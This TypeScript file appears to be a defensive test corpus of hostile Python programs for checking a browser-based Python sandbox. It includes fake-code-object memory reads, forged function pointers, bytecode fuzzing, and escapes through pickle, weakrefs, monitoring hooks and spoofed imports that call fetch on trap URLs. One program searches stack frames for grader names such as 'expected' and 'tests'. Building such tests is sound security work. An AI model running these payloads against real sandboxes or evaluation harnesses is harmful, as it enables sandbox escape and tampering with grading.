/** Hostile programs that break CPython itself: made-up code objects, bytecode, freed memory, function pointers. */

import { type HostileProgram, programs } from './program.ts';

/** Reads and writes anywhere in the linear memory: a bytearray whose size a made-up code object has overwritten. */
const READ_ANYWHERE = `
import sys
def fake_const(address):
    # LOAD_CONST with an index outside of co_consts takes whatever lies at that distance as an object.
    def f(): pass
    target = id(f.__code__.co_consts)
    index = (address - target - 12) // 4
    code = bytearray(f.__code__.co_code)
    ops = __import__('dis').opmap
    body = b''
    for shift in (24, 16, 8):
        if index >> shift: body += bytes((ops['EXTENDED_ARG'], (index >> shift) & 255))
    body += bytes((ops['LOAD_CONST'], index & 255, ops['RETURN_VALUE'], 0))
    f.__code__ = f.__code__.replace(co_code=body, co_stacksize=9)
    return f`;

const withFake = (use: string) => `${READ_ANYWHERE}\n${use.trim()}`;

const BODIES = programs('broken interpreter', {
  'constant outside of the constants': withFake(`
x = fake_const(0x100000)()
str(x)`),
  'made-up object with a made-up type': withFake(`
import struct
blob = bytes(struct.pack('<8I', 1000, id(blob_type := bytearray(400)) + 32, 0, 0, 0, 0, 0, 0))
holder = (blob,)
pointer = struct.pack('<I', id(blob) + 16)
fake = fake_const(id(pointer) + 16)()
fake()`),
  'function pointer of its own choice': withFake(`
import struct
for index in (1, 2, 100, 5000, 14000, 16384, 16385, 16386, 16400, 2**31 - 1):
    kind = bytearray(400)
    address = id(kind)
    slots = struct.pack('<I', index) * 90
    made = struct.pack('<I', 1000) + struct.pack('<I', id(type)) + struct.pack('<I', 0) + slots
    instance = struct.pack('<II', 1000, id(made) + 16)
    pointer = struct.pack('<I', id(instance) + 16)
    try:
        fake_const(id(pointer) + 16)()(AWAY_TEXT)
    except Exception:
        pass
raise ValueError('still here')`).replace('AWAY_TEXT', "'AWAYtrap/pointer'"),
  'bytecode of noise': `
import random
def f(a, b=2, *c, **d):
    for x in [a, b]:
        try: x += 1
        except TypeError: pass
    return [y for y in c]
for seed in range(200):
    random.seed(seed)
    code = bytes(random.randrange(256) for _ in range(60))
    g = type(f)(f.__code__.replace(co_code=code, co_stacksize=50, co_consts=(1, 'a', None)), {})
    try: g(1)
    except Exception: pass
raise ValueError('still here')`,
  'stack below its bottom': `
import dis
ops = dis.opmap
code = bytes((ops['POP_TOP'], 0)) * 200 + bytes((ops['RETURN_VALUE'], 0))
def f(): pass
f.__code__ = f.__code__.replace(co_code=code)
f()
raise ValueError('still here')`,
  'jump out of the code': `
import dis
def f():
    while True: pass
code = bytes((dis.opmap['RESUME'], 0, dis.opmap['EXTENDED_ARG'], 255, dis.opmap['EXTENDED_ARG'], 255, dis.opmap['JUMP_FORWARD'], 255))
f.__code__ = f.__code__.replace(co_code=code)
f()
raise ValueError('still here')`,
  'local variables that are not there': `
import dis
ops = dis.opmap
code = bytes((ops['RESUME'], 0, ops['EXTENDED_ARG'], 255, ops['LOAD_FAST'], 255, ops['RETURN_VALUE'], 0))
def f(): pass
f.__code__ = f.__code__.replace(co_code=code)
str(f())
raise ValueError('still here')`,
  'marshal with made-up code': `
import marshal
def f(): return 1
blob = bytearray(marshal.dumps(f.__code__))
for i in range(len(blob)):
    for bit in (1, 128):
        blob[i] ^= bit
        try:
            exec(marshal.loads(bytes(blob)), {})
        except BaseException:
            pass
        blob[i] ^= bit
raise ValueError('still here')`,
  'pickle that calls': `
import pickle
class P:
    def __reduce__(self):
        return (__import__, ('js',))
pickle.loads(pickle.dumps(P())).fetch('AWAYtrap/pickle')`,
  'list changed while it is sorted': `
class K:
    def __lt__(self, other):
        items.clear()
        return True
items = [K() for _ in range(100)]
items.sort()
raise ValueError('still here')`,
  'memoryview of released memory': `
import io
b = io.BytesIO(b'x' * 100)
v = b.getbuffer()
v.release()
v[0]`,
  'mappingproxy laid open': `
class Leak:
    def __eq__(self, other):
        other['__add__'] = lambda a, b: 'escaped'
        return True
int.__dict__ == Leak()
(1).__class__.__dict__
assert 1 + 1 != 2`,
  'recursion in a destructor': `
class D:
    def __del__(self): D()
D()
import gc
gc.collect()
raise ValueError('still here')`,
  'weak reference that revives': `
import weakref
class A: pass
keep = []
a = A()
weakref.finalize(a, lambda: keep.append(__import__('js')))
del a
keep[0].fetch('AWAYtrap/weak')`,
  'generator that is closed while it runs': `
def g():
    try:
        yield
    finally:
        it.close()
        yield from it
it = g()
next(it)
it.close()`,
  'audit hook of its own that raises for ever': `
import sys
def hook(event, args):
    raise MemoryError
sys.addaudithook(hook)
import js`,
  'sys._getframe and its neighbours': `
import sys
f = sys._getframe()
while f.f_back: f = f.f_back
names = {k for k in (*f.f_globals, *f.f_builtins, *f.f_locals)}
assert names & {'expected', 'tests', 'js', 'send', 'postMessage', 'run_js'}`,
  'sys.monitoring and tracing': `
import sys
sys.monitoring.use_tool_id(3, 'x')
sys.monitoring.register_callback(3, sys.monitoring.events.CALL, lambda *a: __import__('js'))
sys.monitoring.set_events(3, sys.monitoring.events.CALL)
len('x')`,
  'import hook that lies about its name': `
import builtins
class S(str):
    def __eq__(self, other): return other == 'js' or other == 'math'
    def __hash__(self): return hash('math')
    def split(self, *a): return ['math']
    def partition(self, *a): return ('math', '', '')
import importlib
importlib.import_module(S('js')).fetch('AWAYtrap/name')`,
  'huge indices into C': `
import struct
b = bytearray(8)
struct.pack_into('<I', b, 2**31 - 1, 0)`,
  'expat, decoders and compilers under noise': `
import json, zlib, re, ast
for seed in range(100):
    noise = bytes((seed * i * 7 + i) % 256 for i in range(200))
    for f in (json.loads, zlib.decompress, lambda x: re.compile(x.decode('latin1')), lambda x: ast.parse(x)):
        try: f(noise)
        except Exception: pass
raise ValueError('still here')`,
});

/** At module level: nothing of the function is needed to break out. */
const AT_MODULE_LEVEL: readonly HostileProgram[] = [
  {
    technique: 'broken interpreter',
    name: 'module body that replaces its builtins and imports',
    code: `__builtins__ = {'__import__': lambda *a: None}\nimport js\nsolution = lambda n: js.fetch('AWAYtrap/body')\n`,
  },
  {
    technique: 'broken interpreter',
    name: 'class body that imports while it is made',
    code: `class M(type):\n    def __prepare__(name, bases): return __import__('pyodide_js').__dict__\nclass C(metaclass=M): fetch('AWAYtrap/class')\nsolution = C\n`,
  },
];

export const MEMORY_PROGRAMS: readonly HostileProgram[] = [...BODIES, ...AT_MODULE_LEVEL];
